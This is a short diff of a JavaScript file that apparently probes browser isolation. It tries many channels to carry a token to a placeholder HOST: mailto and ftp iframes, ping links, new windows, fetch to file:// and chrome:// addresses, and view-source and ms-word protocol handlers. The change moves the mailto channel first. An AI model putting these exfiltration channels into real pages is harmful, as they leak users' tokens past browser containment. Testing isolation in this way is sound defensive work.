@@ -1,4 +1,6 @@
-// Ways to go somewhere.
+// Ways to go somewhere. The letter comes first: without a click a browser gives one
+// address to another program, and no more.
+add("iframe", {src: "mailto:out@HOST?body=" + token});
 add("a", {href: "#ping", ping: way("ping")}).click();
 add("a", {href: way("new-tab"), target: "_blank", rel: "noopener"}).click();
 attempt(() => window.open(way("window")));
@@ -33,6 +35,6 @@ for (const address of ["file:///etc/hostname?", "file://NAME/share/", "chrome://
 	add("iframe", {src: address + token});
 	attempt(() => fetch(address + token));
 }
-for (const scheme of ["mailto:out@HOST?body=", "tel:", "web+out:", "ftp://HOST/ftp?t=", "view-source:http://HOST/view-source?t=", "ms-word:ofe|u|http://HOST/office?t="])
+for (const scheme of ["tel:", "web+out:", "ftp://HOST/ftp?t=", "view-source:http://HOST/view-source?t=", "ms-word:ofe|u|http://HOST/office?t="])
 	add("iframe", {src: scheme + token});
 
